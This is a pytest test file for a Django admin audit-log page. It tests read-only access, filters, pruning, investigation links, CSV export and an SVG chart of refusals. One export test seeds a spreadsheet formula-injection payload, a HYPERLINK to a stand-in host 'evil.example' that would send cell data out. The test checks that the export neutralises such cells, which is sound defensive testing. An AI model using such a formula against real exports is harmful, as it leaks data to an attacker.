"""The audit log in the Django admin: read-only, filters and search, cheap on a large table;
readable labels, links to investigate with, CSV export and the chart of refusals."""

from __future__ import annotations

import csv
import html
import io
import re
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import parse_qs, urlencode

import pytest
from django.contrib.auth.models import Permission, User
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection
from django.http import StreamingHttpResponse
from django.test import Client
from django.test.utils import CaptureQueriesContext

from entra_auth.admin import EXPORT_COLUMNS, AuditEventAdmin
from entra_auth.audit import AuditEvent, EventType, Outcome, Reason, prune
from tests.fake_entra import TENANT_A, TENANT_B
from tests.tenancy_app.factories import WidgetFactory
from tests.views import WIDGET_CREATED

pytestmark = pytest.mark.django_db

CHANGELIST = "/admin/entra_auth/auditevent/"
OID_A = "aaaaaaaa-0000-4000-8000-000000000001"
OID_B = "bbbbbbbb-0000-4000-8000-000000000002"
APP_A = "aaaaaaaa-0000-4000-8000-0000000000a1"
NOW = datetime(2026, 3, 15, 12, 0, tzinfo=UTC)
REASONS = [Reason.EXPIRED, Reason.BAD_SIGNATURE, Reason.MISSING_SCOPE, Reason.OTHER_TENANT]
SVG_NAMESPACE = "http://www.w3.org/2000/svg"


def event(**fields: Any) -> AuditEvent:
    values = {
        "occurred_at": NOW,
        "event_type": EventType.AUTHENTICATION_FAILED,
        "outcome": Outcome.FAILURE,
        "reason": Reason.EXPIRED,
        "client_ip": "198.51.100.1",
        "request_id": "req-default",
        **fields,
    }
    return AuditEvent.objects.create(**values)


@pytest.fixture
def events() -> dict[str, AuditEvent]:
    """One event of each kind, in two tenants, on two days."""
    return {
        "expired": event(request_id="req-expired", client_ip="198.51.100.7"),
        "bad_signature": event(
            reason=Reason.BAD_SIGNATURE,
            request_id="req-signature",
            occurred_at=NOW - timedelta(days=40),
        ),
        "missing_scope": event(
            event_type=EventType.AUTHORIZATION_DENIED,
            outcome=Outcome.DENIED,
            reason=Reason.MISSING_SCOPE,
            tenant_id=TENANT_A,
            subject_oid=OID_A,
            app_id=APP_A,
            request_id="req-scope",
            missing="Widgets.Read",
        ),
        "tenant_denied": event(
            event_type=EventType.TENANT_DENIED,
            outcome=Outcome.DENIED,
            reason=Reason.OTHER_TENANT,
            tenant_id=TENANT_B,
            subject_oid=OID_B,
            request_id="req-tenant",
        ),
        "widget_created": event(
            event_type=WIDGET_CREATED,
            outcome=Outcome.SUCCESS,
            reason="",
            tenant_id=TENANT_A,
            subject_oid=OID_A,
            app_id=APP_A,
            request_id="req-widget",
            client_ip="2001:db8::5",
        ),
    }


@pytest.fixture
def admin_client(client: Client) -> Client:
    client.force_login(User.objects.create_superuser("root", "root@example.com", "pw"))
    return client


def listed(client: Client, query: str = "") -> list[AuditEvent]:
    response = client.get(CHANGELIST + query)
    assert response.status_code == 200, response.content[:500]
    return list(response.context["cl"].result_list)


def test_changelist_lists_every_event_newest_first(admin_client, events):
    rows = listed(admin_client)

    assert [row.occurred_at for row in rows] == sorted(
        (row.occurred_at for row in rows), reverse=True
    )
    assert {row.pk for row in rows} == {e.pk for e in events.values()}


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("?event_type=authentication_failed", {"expired", "bad_signature"}),
        (f"?event_type={WIDGET_CREATED}", {"widget_created"}),
        ("?outcome__exact=denied", {"missing_scope", "tenant_denied"}),
        ("?reason=expired", {"expired"}),
        ("?reason=missing_scope", {"missing_scope"}),
        (f"?tenant_id={TENANT_A}", {"missing_scope", "widget_created"}),
        (f"?tenant_id={TENANT_B.upper()}", {"tenant_denied"}),
        ("?occurred_at__year=2026&occurred_at__month=2", {"bad_signature"}),
        ("?event_type=authentication_failed&outcome__exact=success", set()),
        (f"?q={OID_A}", {"missing_scope", "widget_created"}),
        (f"?q={APP_A.upper()}", {"missing_scope", "widget_created"}),
        ("?q=req-tenant", {"tenant_denied"}),
        ("?q=198.51.100.7", {"expired"}),
        ("?q=2001:DB8::5", {"widget_created"}),
        ("?q=nothing-matches", set()),
    ],
)
def test_filters_and_search_return_the_right_rows(admin_client, events, query, expected):
    rows = listed(admin_client, query)

    names = {name for name, e in events.items() if e.pk in {row.pk for row in rows}}
    assert names == expected


def test_filter_sidebar_offers_every_event_type_reason_and_a_tenant_box(admin_client, events):
    page = admin_client.get(CHANGELIST).content.decode()

    for label in ("Authentication failed", "Tenant denied", "Widget created", "Rate limited"):
        assert label in page
    assert "Missing scope" in page and "Bad signature" in page
    assert 'name="tenant_id"' in page


def test_audit_events_cannot_be_added_changed_or_deleted(admin_client, events):
    target = events["expired"]
    change_url = f"{CHANGELIST}{target.pk}/change/"

    assert admin_client.get(f"{CHANGELIST}add/").status_code == 403
    assert admin_client.post(f"{CHANGELIST}add/", {"event_type": "x"}).status_code == 403
    assert admin_client.get(f"{CHANGELIST}{target.pk}/delete/").status_code == 403
    assert admin_client.post(f"{CHANGELIST}{target.pk}/delete/", {"post": "yes"}).status_code == 403
    detail = admin_client.get(change_url)
    assert detail.status_code == 200 and 'name="_save"' not in detail.content.decode()
    admin_client.post(change_url, {"reason": "edited", "count": "9"})
    bulk = admin_client.post(
        CHANGELIST, {"action": "delete_selected", "_selected_action": [target.pk], "post": "yes"}
    )
    assert bulk.status_code in (200, 302)

    target.refresh_from_db()
    assert (target.reason, target.count) == (Reason.EXPIRED, 1)
    assert AuditEvent.objects.count() == len(events)
    assert 'name="action"' not in admin_client.get(CHANGELIST).content.decode()


def test_model_admin_grants_no_write_permission(admin_client, rf):
    request = rf.get(CHANGELIST)
    request.user = User.objects.get(username="root")
    model_admin = AuditEventAdmin(AuditEvent, admin_site=None)

    assert not model_admin.has_add_permission(request)
    assert not model_admin.has_change_permission(request)
    assert not model_admin.has_delete_permission(request)
    assert model_admin.get_actions(request) == {}


def test_staff_need_the_view_permission(client, events):
    staff = User.objects.create_user("staff", password="pw", is_staff=True)
    client.force_login(staff)
    assert client.get(CHANGELIST).status_code == 403

    staff.user_permissions.add(Permission.objects.get(codename="view_auditevent"))
    assert client.get(CHANGELIST).status_code == 200


def test_changelist_queries_do_not_grow_with_the_rows(admin_client):
    def queries_for_page() -> int:
        with CaptureQueriesContext(connection) as queries:
            listed(admin_client, "?event_type=authentication_failed")
        return len(queries)

    for _ in range(3):
        event()
    few = queries_for_page()
    for _ in range(40):
        event()
    many = queries_for_page()

    assert many == few
    assert AuditEventAdmin.show_full_result_count is False


# --- retention ----------------------------------------------------------------------------


def test_prune_dry_run_counts_and_deletes_nothing(events, capsys, monkeypatch):
    monkeypatch.setattr("django.utils.timezone.now", lambda: NOW + timedelta(days=1))

    call_command("entra_audit_prune", "--older-than", "30d", "--dry-run")

    assert "Would delete 1 audit event(s) older than 30d." in capsys.readouterr().out
    assert AuditEvent.objects.count() == len(events)


def test_prune_deletes_only_older_events(events, capsys, monkeypatch):
    monkeypatch.setattr("django.utils.timezone.now", lambda: NOW + timedelta(days=1))

    call_command("entra_audit_prune", "--older-than", "30d")

    assert "Deleted 1 audit event(s)" in capsys.readouterr().out
    assert not AuditEvent.objects.filter(pk=events["bad_signature"].pk).exists()
    assert AuditEvent.objects.count() == len(events) - 1


def test_prune_works_in_batches(monkeypatch):
    monkeypatch.setattr("entra_auth.audit.PRUNE_BATCH_SIZE", 2)
    for _ in range(5):
        event(occurred_at=NOW - timedelta(days=200))

    assert prune(timedelta(days=90)) == 5
    assert not AuditEvent.objects.exists()


@pytest.mark.parametrize("age", ["90", "0d", "-1d", "90 days", "1y"])
def test_prune_refuses_an_unclear_age(age):
    with pytest.raises(CommandError, match="--older-than"):
        call_command("entra_audit_prune", "--older-than", age)


# --- investigating: labels, links, search ---------------------------------------------------


def page_of(client: Client, url: str) -> str:
    response = client.get(url)
    assert response.status_code == 200, response.content[:500]
    return response.content.decode()


def row_html(page: str, event: AuditEvent) -> str:
    """The changelist row of ``event`` (it links to the event's page)."""
    link = f'href="{CHANGELIST}{event.pk}/change/'
    start = page.rindex("<tr", 0, page.index(link))
    return page[start : page.index("</tr>", start)]


def test_list_shows_readable_labels_not_codes(admin_client, events):
    page = page_of(admin_client, CHANGELIST)

    denied = row_html(page, events["tenant_denied"])
    assert "Tenant denied" in denied and "Denied · Object of another tenant" in denied
    expired = row_html(page, events["expired"])
    assert "Authentication failed" in expired and "Failure · Expired" in expired
    assert "Widget created" in row_html(page, events["widget_created"])
    # Codes are only in title attributes (for log searches), never the text shown.
    assert ">other_tenant<" not in page and ">missing_scope<" not in page


def test_event_page_shows_labels_and_links_to_its_request_caller_and_address(admin_client, events):
    target = events["missing_scope"]
    target.last_request_id = "req-scope-last"
    target.count = 4
    target.save()

    page = page_of(admin_client, f"{CHANGELIST}{target.pk}/change/")

    assert "Authorization denied" in page and "Missing scope" in page and "Denied" in page
    assert "Authorization denied (Denied) at 2026-03-15 12:00:00" in page  # title, breadcrumb
    for query in (
        "?request_id=req-scope",
        "?request_id=req-scope-last",
        f"?tenant_id={TENANT_A}&amp;subject_oid={OID_A}",
        "?client_ip=198.51.100.1",
    ):
        assert f'href="{CHANGELIST}{query}"' in page, query


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        # Each link of an event page leads to a list these filters narrow.
        ("?request_id=req-tenant", {"tenant_denied"}),
        ("?request_id=req-last", {"expired"}),  # the last request of a coalesced row
        (f"?tenant_id={TENANT_A}&subject_oid={OID_A}", {"missing_scope", "widget_created"}),
        (f"?subject_oid={OID_A.upper()}", {"missing_scope", "widget_created"}),
        ("?client_ip=198.51.100.7", {"expired"}),
        ("?client_ip=2001:DB8::5", {"widget_created"}),
        ("?client_ip=not-an-address", set()),
    ],
)
def test_link_filters_find_the_other_events_of_a_request_caller_or_address(
    admin_client, events, query, expected
):
    AuditEvent.objects.filter(pk=events["expired"].pk).update(last_request_id="req-last")

    rows = listed(admin_client, query)

    assert {name for name, e in events.items() if e.pk in {row.pk for row in rows}} == expected


def test_link_filters_appear_in_the_sidebar_only_once_in_use(admin_client, events):
    assert 'name="request_id"' not in page_of(admin_client, CHANGELIST)

    page = page_of(admin_client, f"{CHANGELIST}?request_id=req-tenant")

    assert 'name="request_id"' in page and 'value="req-tenant"' in page


def test_event_links_to_its_object_when_the_admin_shows_that_model(admin_client):
    widget = WidgetFactory(name="Order 1001")
    about = event(
        event_type=WIDGET_CREATED,
        outcome=Outcome.SUCCESS,
        reason="",
        object_type="tenancy_app.widget",
        object_id=str(widget.pk),
    )
    elsewhere = event(object_type="billing.invoice", object_id="inv-7", request_id="r2")
    untyped = event(object_id="42", request_id="r3")
    widget_page = f"/admin/tenancy_app/widget/{widget.pk}/change/"

    listing = page_of(admin_client, CHANGELIST)
    detail = page_of(admin_client, f"{CHANGELIST}{about.pk}/change/")

    assert f'href="{widget_page}"' in row_html(listing, about)
    assert f">Widget {widget.pk}</a>" in row_html(listing, about)
    assert f'href="{widget_page}"' in detail and "tenancy_app.widget" in detail
    # A model the admin does not show (or no model at all): said in plain text, no link.
    assert "billing.invoice inv-7" in row_html(listing, elsewhere)
    assert "/admin/billing/" not in listing
    assert ">42</span>" in row_html(listing, untyped)
    assert admin_client.get(widget_page).status_code == 200


@pytest.mark.parametrize(
    ("term", "expected"),
    [
        ("/api/widgets/", {"missing_scope", "tenant_denied"}),  # a path, from its start
        ("/widgets", set()),
        ("rename", {"tenant_denied"}),  # part of a path
        ("curl/8", {"expired"}),  # part of a user agent
        ("PYTHON-REQUESTS", {"widget_created"}),
        ("req-last", {"expired"}),  # the last request id of a coalesced row
    ],
)
def test_search_finds_paths_user_agents_and_last_request_ids(admin_client, events, term, expected):
    AuditEvent.objects.filter(pk=events["expired"].pk).update(
        user_agent="curl/8.5.0", last_request_id="req-last", path="/api/me/"
    )
    AuditEvent.objects.filter(pk=events["missing_scope"].pk).update(path="/api/widgets/")
    AuditEvent.objects.filter(pk=events["tenant_denied"].pk).update(path="/api/widgets/7/rename/")
    AuditEvent.objects.filter(pk=events["widget_created"].pk).update(
        user_agent="python-requests/2.32"
    )

    rows = listed(admin_client, f"?{urlencode({'q': term})}")

    assert {name for name, e in events.items() if e.pk in {row.pk for row in rows}} == expected


# --- CSV export -----------------------------------------------------------------------------

EXPORT = f"{CHANGELIST}export.csv"


def exported(client: Client, query: str = "") -> list[dict[str, str]]:
    response = client.get(EXPORT + query)
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="audit-events-')
    assert "no-store" in response["Cache-Control"]
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def test_export_streams_the_filtered_list_newest_first_with_labels(admin_client, events):
    AuditEvent.objects.filter(pk=events["missing_scope"].pk).update(
        count=3, last_request_id="req-scope-3", last_occurred_at=NOW + timedelta(seconds=30)
    )

    lines = exported(admin_client, "?outcome__exact=denied")

    assert [line["request_id"] for line in lines] == ["req-tenant", "req-scope"]
    scope = lines[1]
    assert scope["event_type"] == "authorization_denied"
    assert scope["event"] == "Authorization denied"
    assert (scope["reason"], scope["reason_label"]) == ("missing_scope", "Missing scope")
    assert scope["count"] == "3"
    assert scope["first_seen"] == NOW.isoformat()
    assert scope["last_seen"] == (NOW + timedelta(seconds=30)).isoformat()
    assert scope["last_request_id"] == "req-scope-3"
    assert (scope["tenant_id"], scope["subject_oid"], scope["app_id"]) == (TENANT_A, OID_A, APP_A)
    assert list(lines[0]) == list(EXPORT_COLUMNS)


def test_export_follows_search_and_date_too(admin_client, events):
    assert [line["request_id"] for line in exported(admin_client, "?q=198.51.100.7")] == [
        "req-expired"
    ]
    assert [
        line["request_id"]
        for line in exported(admin_client, "?occurred_at__year=2026&occurred_at__month=2")
    ] == ["req-signature"]


def test_export_cells_never_run_as_spreadsheet_formulas(admin_client):
    event(
        user_agent='=HYPERLINK("http://evil.example/?"&A1)',
        path="+cmd",
        missing="-2+3",
        object_id="@SUM(A1)",
        request_id="req-formula",
    )

    (line,) = exported(admin_client)

    assert line["user_agent"] == """'=HYPERLINK("http://evil.example/?"&A1)"""
    assert (line["path"], line["missing"], line["object_id"]) == ("'+cmd", "'-2+3", "'@SUM(A1)")
    assert line["request_id"] == "req-formula"


def test_export_holds_the_rows_columns_only(admin_client, events):
    lines = exported(admin_client)

    assert set(lines[0]) == set(EXPORT_COLUMNS)
    model_columns = {field.name for field in AuditEvent._meta.fields} - {"id"}
    derived = {"first_seen", "last_seen", "event", "reason_label"}
    assert set(EXPORT_COLUMNS) - derived <= model_columns


def test_export_needs_the_view_permission(client, events):
    staff = User.objects.create_user("staff", password="pw", is_staff=True)
    client.force_login(staff)
    assert client.get(EXPORT).status_code == 403

    staff.user_permissions.add(Permission.objects.get(codename="view_auditevent"))
    assert client.get(EXPORT).status_code == 200
    client.logout()
    assert client.get(EXPORT).status_code == 302  # to the login page


def test_changelist_links_to_the_export_of_its_filters(admin_client, events):
    page = page_of(admin_client, f"{CHANGELIST}?reason=expired&q=198.51.100.7&p=2")

    (href,) = re.findall(r'href="([^"]*export\.csv[^"]*)"', page)
    path, _, query = html.unescape(href).partition("?")
    assert path == EXPORT
    # The filters and the search, not the page: the export holds every matching row.
    assert parse_qs(query) == {"reason": ["expired"], "q": ["198.51.100.7"]}


# --- the chart of refusals ------------------------------------------------------------------


@pytest.fixture
def now_is_noon(monkeypatch):
    monkeypatch.setattr("django.utils.timezone.now", lambda: NOW + timedelta(minutes=30))


def chart_bars(page: str, chart_id: str) -> list[str]:
    start = page.index(f'id="{chart_id}"')
    svg = page[start : page.index("</svg>", start)]
    return re.findall(r"<title>([^<]*)</title></rect>", svg)


def test_changelist_charts_refusals_per_hour_by_reason(admin_client, now_is_noon):
    for minutes, reason, count in [
        (5, "expired", 27),
        (20, "expired", 3),
        (10, "missing_scope", 13),
    ]:
        event(occurred_at=NOW + timedelta(minutes=minutes), reason=reason, count=count)
    event(occurred_at=NOW - timedelta(hours=30), reason="bad_signature", count=2)
    event(occurred_at=NOW - timedelta(days=9), reason="expired", count=99)  # too old
    event(outcome=Outcome.SUCCESS, event_type=WIDGET_CREATED, reason="", count=1)

    page = page_of(admin_client, CHANGELIST)

    day = chart_bars(page, "entra-audit-chart-24h")
    assert day == [
        "Mar 15 12:00 to 13:00 UTC: Expired, 30",
        "Mar 15 12:00 to 13:00 UTC: Missing scope, 13",
    ]
    week = chart_bars(page, "entra-audit-chart-7d")
    assert "Mar 14 06:00 to 07:00 UTC: Bad signature, 2" in week and len(week) == 3
    assert "Expired (30)" in page and "Missing scope (13)" in page and "Bad signature (2)" in page
    assert 'role="img"' in page and "Refusals per hour, last 24 hours" in page


def test_chart_follows_the_filters(admin_client, now_is_noon, events):
    event(occurred_at=NOW, reason="expired", count=5, client_ip="203.0.113.9")

    page = page_of(admin_client, f"{CHANGELIST}?client_ip=203.0.113.9")

    assert chart_bars(page, "entra-audit-chart-24h") == ["Mar 15 12:00 to 13:00 UTC: Expired, 5"]


def test_chart_is_inline_svg_the_admins_policy_allows(admin_client, now_is_noon):
    event(reason="expired", count=2)

    response = admin_client.get(CHANGELIST)
    page = response.content.decode()

    start = page.index('<details class="entra-audit-charts"')
    charts_html = page[start : page.index("</details>", start)]
    # No style attribute or element, no script, nothing from another site: colours are
    # SVG presentation attributes, which style-src 'self' allows.
    assert "style=" not in charts_html and "<style" not in charts_html
    assert "<script" not in charts_html and "http" not in charts_html.replace(SVG_NAMESPACE, "")
    assert 'fill="#' in charts_html
    policy = response["Content-Security-Policy"]
    assert "style-src 'self'" in policy and "unsafe-inline" not in policy
    assert "/static/entra_auth/audit_admin.css" in page


def test_chart_costs_one_query_whatever_the_rows(admin_client, now_is_noon):
    def queries_for_page() -> int:
        with CaptureQueriesContext(connection) as queries:
            listed(admin_client)
        return len(queries)

    event(reason="expired")
    few = queries_for_page()
    for hours in range(30):
        event(occurred_at=NOW - timedelta(hours=hours), reason=REASONS[hours % len(REASONS)])

    assert queries_for_page() == few


def test_chart_without_refusals_says_so(admin_client, now_is_noon):
    page = page_of(admin_client, CHANGELIST)

    assert "No refusals in the last 7 days." in page
    assert chart_bars(page, "entra-audit-chart-24h") == []
